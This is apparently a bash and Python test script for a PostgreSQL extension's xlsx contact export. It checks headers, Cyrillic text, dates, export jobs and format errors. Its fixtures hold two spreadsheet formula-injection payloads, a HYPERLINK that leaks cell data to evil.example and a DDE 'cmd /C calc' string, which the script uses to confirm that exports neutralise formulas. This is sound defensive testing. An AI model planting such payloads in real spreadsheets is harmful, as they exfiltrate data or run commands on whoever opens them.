#!/usr/bin/env bash
# export_xlsx: the workbook opens as a zip of OOXML parts, and its
# one sheet holds a bold header (tags and each custom field as columns) and
# a row per contact, Cyrillic intact, dates as dates, and no formula (a
# value that looks like one is a string).  Read with Python's zipfile and
# openpyxl.  Prints TAP.  Needs PGHOST/PGPORT/PGUSER of a cluster;
# /usr/bin/python3 with Debian's openpyxl.
set -euo pipefail
DB=cc_xlsx
W=$(mktemp -d)
trap 'dropdb --if-exists $DB >/dev/null 2>&1; rm -rf $W' EXIT
dropdb --if-exists $DB >/dev/null 2>&1; createdb $DB
q() { psql -X -q -At -v ON_ERROR_STOP=1 -d $DB "$@"; }
q -c "CREATE EXTENSION customercard CASCADE" >/dev/null 2>&1
q >/dev/null <<'SQL'
INSERT INTO customercard.custom_fields (name) VALUES ('Источник'), ('Course');
SELECT customercard.upsert_contact('{"name": "Анна Смирнова", "emails": ["anna@example.com"], "tags": ["vip", "вебинар"], "custom": {"Источник": "ярмарка"}}');
SELECT customercard.upsert_contact('{"name": "Boris", "phones": ["+7 912 345-67-89"], "custom": {"Course": "Python"},
                                     "channel": {"kind": "telegram", "connection": "school_bot", "external_id": "tg-77"}}');
SELECT customercard.upsert_contact('{"name": "Carl"}');
SELECT customercard.upsert_contact('{"name": "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"click\")", "custom": {"Course": "+cmd|'' /C calc''!A0"}}');
SQL
q -c "SELECT encode(customercard.export_xlsx('{}'), 'base64')" | base64 -d > $W/audience.xlsx
q -c "SELECT encode(customercard.export_xlsx('{}', '{custom}'), 'base64')" | base64 -d > $W/custom_only.xlsx
# an export job in xlsx (batches of 2, so the rows come from several stored chunks)
JOB=$(q -c "SELECT customercard.bulk_enqueue('export', '{\"format\": \"xlsx\"}', filter => '{}')")
q -c "SELECT customercard.bulk_run_batch(b.account_id, b.job_id, 2) FROM customercard.bulk_jobs b, generate_series(1, 3) g WHERE b.job_id = $JOB" >/dev/null
q -c "SELECT encode(customercard.bulk_export_xlsx($JOB), 'base64')" | base64 -d > $W/job.xlsx
wrong_csv=$(q -c "SELECT customercard.bulk_export_csv($JOB)" 2>&1 | grep -o 'wrote xlsx, not csv' || true)
CSVJOB=$(q -c "SELECT customercard.bulk_enqueue('export', filter => '{}')")
wrong_xlsx=$(q -c "SELECT customercard.bulk_export_xlsx($CSVJOB)" 2>&1 | grep -o 'is queued, not done\|wrote csv, not xlsx' || true)
bad_format=$(q -c "SELECT customercard.bulk_enqueue('export', '{\"format\": \"pdf\"}', filter => '{}')" 2>&1 | grep -o '"format" must be "csv" or "xlsx"' || true)
echo "1..9"
/usr/bin/python3 - "$W/audience.xlsx" "$W/custom_only.xlsx" <<'PY'
import re, sys, zipfile
z = zipfile.ZipFile(sys.argv[1])
bad = z.testzip()
print("ok 1 - a valid zip with its OOXML parts" if bad is None and "xl/workbook.xml" in z.namelist() and "[Content_Types].xml" in z.namelist()
      else "not ok 1 - zip: %s, parts: %s" % (bad, z.namelist()))
sheet = z.read("xl/worksheets/sheet1.xml").decode()
shared = [re.sub(r"<[^>]+>", "", s) for s in re.findall(r"<si>(.*?)</si>", z.read("xl/sharedStrings.xml").decode(), re.S)] \
    if "xl/sharedStrings.xml" in z.namelist() else []
rows = re.findall(r"<row [^>]*>(.*?)</row>", sheet, re.S)
def cells(row):
    out = []
    for c in re.findall(r"<c ([^>]*?)(?:/>|>(.*?)</c>)", row, re.S):
        attrs, body = c
        v = re.search(r"<v>(.*?)</v>", body or "")
        if v is None:
            out.append(None)
        elif 't="s"' in attrs:
            out.append(shared[int(v.group(1))])
        else:
            out.append(v.group(1))
    return out
header = cells(rows[0])
want = ["contact_id", "name", "phone", "email", "status", "created_at_utc", "tags", "channel", "connection", "social_id", "Course", "Источник"]
print("ok 2 - the header: the CRM columns, the messenger link, then each custom field" if header == want else "not ok 2 - header %s" % header)
body = [cells(r) for r in rows[1:]]
anna = [r for r in body if "Анна Смирнова" in r]
boris = [r for r in body if "Boris" in r]
ok = len(body) == 4 and anna and "vip; вебинар" in anna[0] and "ярмарка" in anna[0] \
    and boris and "telegram,school_bot,tg-77" in ",".join(boris[0])
print("ok 3 - a row per contact, Cyrillic names, tags, the messenger link and custom values intact" if ok else "not ok 3 - rows %s" % body)
# created_at_utc: a number with a date format (an Excel serial date), not text
dates = re.findall(r'<c r="F2"[^>]*s="(\d+)"[^>]*><v>([\d.]+)</v>', sheet)
print("ok 4 - dates are Excel dates" if dates and float(dates[0][1]) > 40000 else "not ok 4 - F2: %s" % re.findall(r'<c r="F2".*?</c>', sheet))
# column groups: custom fields only (no tags, no messenger link)
z2 = zipfile.ZipFile(sys.argv[2])
sheet = z2.read("xl/worksheets/sheet1.xml").decode()
shared = [re.sub(r"<[^>]+>", "", s) for s in re.findall(r"<si>(.*?)</si>", z2.read("xl/sharedStrings.xml").decode(), re.S)] \
    if "xl/sharedStrings.xml" in z2.namelist() else []
header = cells(re.findall(r"<row [^>]*>(.*?)</row>", sheet, re.S)[0])
want = ["contact_id", "name", "phone", "email", "status", "created_at_utc", "Course", "Источник"]
print("ok 5 - column groups: custom fields only, no tags and no messenger link" if header == want else "not ok 5 - header %s" % header)
# formulas: never written; a value that looks like one is a string cell (openpyxl reads it back)
import openpyxl
ws = openpyxl.load_workbook(sys.argv[1]).active
evil = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value[:1] in "=+"]
formulas = ["<f>" in z.read(n).decode() or "<f " in z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
ok = sorted(c.value for c in evil) == ['+79123456789', '+cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example/?leak="&A2,"click")'] \
    and all(c.data_type == "s" for c in evil) and not any(formulas)
print("ok 6 - export_xlsx writes no formula: a value that looks like one is a string cell, as it was" if ok
      else "not ok 6 - %s %s" % ([(c.value, c.data_type) for c in evil], formulas))
PY
/usr/bin/python3 - "$W/audience.xlsx" "$W/job.xlsx" <<'PY2'
import sys, openpyxl
def values(p):
    return [[c.value for c in row] for row in openpyxl.load_workbook(p).active.iter_rows()]
a, j = values(sys.argv[1]), values(sys.argv[2])
print("ok 7 - the export job's .xlsx (read by openpyxl) holds what export_xlsx writes: the header, every row, typed" if a == j and len(j) == 5
      else "not ok 7 - export_xlsx %s, the job's %s" % (a, j))
PY2
[ "$wrong_csv" = "wrote xlsx, not csv" ] && echo "ok 8 - bulk_export_csv of an xlsx job says to read it with bulk_export_xlsx" || echo "not ok 8 - got: $wrong_csv"
[ -n "$wrong_xlsx" ] && [ "$bad_format" = '"format" must be "csv" or "xlsx"' ] \
    && echo "ok 9 - bulk_export_xlsx of another job, and a format other than csv or xlsx, are refused" \
    || echo "not ok 9 - got: $wrong_xlsx / $bad_format"
